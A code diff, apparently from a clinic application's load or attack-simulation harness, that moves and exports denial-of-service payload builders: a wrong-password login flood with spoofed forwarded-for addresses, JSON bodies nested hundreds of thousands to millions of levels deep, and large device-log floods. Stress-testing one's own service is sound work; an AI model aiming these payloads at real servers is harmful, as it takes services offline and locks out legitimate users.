@@ -9,7 +9,7 @@ import { sleep } from './load-device';
 type Raw = { status: number; ms: number };
 
 /** One request with a ready-made body; a failure to connect or answer counts as status 0. */
-function send(
+export function send(
   baseURL: string,
   agent: Agent,
   method: string,
@@ -45,6 +45,46 @@ function send(
 const deep = (depth: number) => '['.repeat(depth) + '0' + ']'.repeat(depth);
 const json = (value: unknown) => Buffer.from(JSON.stringify(value));
 
+/** A wrong login: an unknown id mostly, every fourth a staff account the honest devices use. */
+export const wrongLogin = (i: number, n: number) =>
+  json({ email: n % 4 === 0 ? 'load0@clinic.example' : `nobody${i}x${n}`, password: `wrong-${n}` });
+
+/** The attack's bodies, made once (making them is the attacker's CPU, not the server's). */
+export function attackBodies() {
+  // Bodies nested deep: an anonymous log 400,000 levels deep (under its 1 MB limit), and an 8 MB push millions deep.
+  const deepLog = Buffer.from(`{"logs":[{"operation":"page_view","data":${deep(400_000)}}]}`);
+  const deepPush = Buffer.from(
+    `{"protocolVersion":1,"clientId":"${crypto.randomUUID()}","mutations":[{"id":1,"name":"customer.create","clientTime":"2026-12-01T00:00:00.000Z","args":${deep(3_900_000)}}]}`,
+  );
+  // A device log of some 40 KB.
+  const error = (i: number) => ({
+    type: 'window_error',
+    severity: 'high',
+    message: `${'攻撃'.repeat(300)}${i}`,
+    stack: '',
+    timestamp: '2026-12-01T00:00:00.000Z',
+    url: '/',
+  });
+  const log = json({
+    sessionId: 'flood_session',
+    deviceInfo: {
+      platform: 'x',
+      viewport: '1x1',
+      connectionType: 'wifi',
+      userAgent: 'x',
+      screenSize: '1x1',
+      language: 'ja',
+    },
+    networkInfo: { online: true, effectiveType: '4g', downlink: 10, rtt: 50 },
+    errors: Array.from({ length: 40 }, (_, i) => error(i)),
+    performance: { pageLoadTime: 1, domContentLoaded: 1, firstContentfulPaint: 1, apiResponseTimes: [] },
+    userActions: [],
+    timestamp: '2026-12-01T00:00:00.000Z',
+    metadata: { appVersion: '1.0.0', trigger: 'interval', url: '/' },
+  });
+  return { deepLog, deepPush, log };
+}
+
 export type AttackReport = { lines: string[]; unanswered: number };
 /** The attack's parts, which `--attack-parts` may run alone to see what each costs the clinic. */
 export const ATTACK_PARTS = ['logins', 'deep', 'logs'] as const;
@@ -57,6 +97,7 @@ export async function attack(
   deadline: number,
   parts: readonly AttackPart[] = ATTACK_PARTS,
 ): Promise<AttackReport> {
+  const { deepLog, deepPush, log } = attackBodies();
   const agent = new Agent({ keepAlive: true, maxSockets: 256, timeout: 4000 });
   const counts = new Map<string, Map<number, number>>();
   let inFlight = 0;
@@ -85,22 +126,12 @@ export async function attack(
     Array.from({ length: 200 }, (_, i) =>
       loop(2000, (n) =>
         tracked('login flood', () =>
-          send(
-            baseURL,
-            agent,
-            'POST',
-            '/auth/login',
-            json({ email: n % 4 === 0 ? 'load0@clinic.example' : `nobody${i}x${n}`, password: `wrong-${n}` }),
-            { 'x-forwarded-for': `10.66.${i >> 8}.${i & 255}` },
-          ),
+          send(baseURL, agent, 'POST', '/auth/login', wrongLogin(i, n), {
+            'x-forwarded-for': `10.66.${i >> 8}.${i & 255}`,
+          }),
         ),
       ),
     );
-  // Bodies nested deep: an anonymous log 400,000 levels deep (under its 1 MB limit), and an 8 MB push millions deep.
-  const deepLog = Buffer.from(`{"logs":[{"operation":"page_view","data":${deep(400_000)}}]}`);
-  const deepPush = Buffer.from(
-    `{"protocolVersion":1,"clientId":"${crypto.randomUUID()}","mutations":[{"id":1,"name":"customer.create","clientTime":"2026-12-01T00:00:00.000Z","args":${deep(3_900_000)}}]}`,
-  );
   const deepBodies = () => [
     loop(200, (n) =>
       tracked('deep JSON (anonymous log)', () =>
@@ -114,31 +145,6 @@ export async function attack(
     ),
   ];
   // Device logs of some 40 KB from 20 addresses, each as fast as its answers come.
-  const error = (i: number) => ({
-    type: 'window_error',
-    severity: 'high',
-    message: `${'攻撃'.repeat(300)}${i}`,
-    stack: '',
-    timestamp: '2026-12-01T00:00:00.000Z',
-    url: '/',
-  });
-  const log = json({
-    sessionId: 'flood_session',
-    deviceInfo: {
-      platform: 'x',
-      viewport: '1x1',
-      connectionType: 'wifi',
-      userAgent: 'x',
-      screenSize: '1x1',
-      language: 'ja',
-    },
-    networkInfo: { online: true, effectiveType: '4g', downlink: 10, rtt: 50 },
-    errors: Array.from({ length: 40 }, (_, i) => error(i)),
-    performance: { pageLoadTime: 1, domContentLoaded: 1, firstContentfulPaint: 1, apiResponseTimes: [] },
-    userActions: [],
-    timestamp: '2026-12-01T00:00:00.000Z',
-    metadata: { appVersion: '1.0.0', trigger: 'interval', url: '/' },
-  });
   const logFlood = () =>
     Array.from({ length: 20 }, (_, i) =>
       loop(50, () =>
